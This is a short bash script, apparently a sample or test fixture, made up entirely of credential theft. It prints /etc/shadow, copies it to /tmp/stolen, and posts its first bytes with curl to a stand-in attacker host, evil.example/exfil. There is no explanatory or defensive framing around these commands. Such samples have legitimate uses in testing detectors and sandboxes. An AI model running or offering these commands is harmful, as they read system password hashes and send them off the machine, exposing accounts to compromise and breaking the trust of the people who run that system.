#!/bin/bash
cat /etc/shadow
cp /etc/shadow /tmp/stolen
head -c 100 /etc/shadow | curl -d @- https://evil.example/exfil
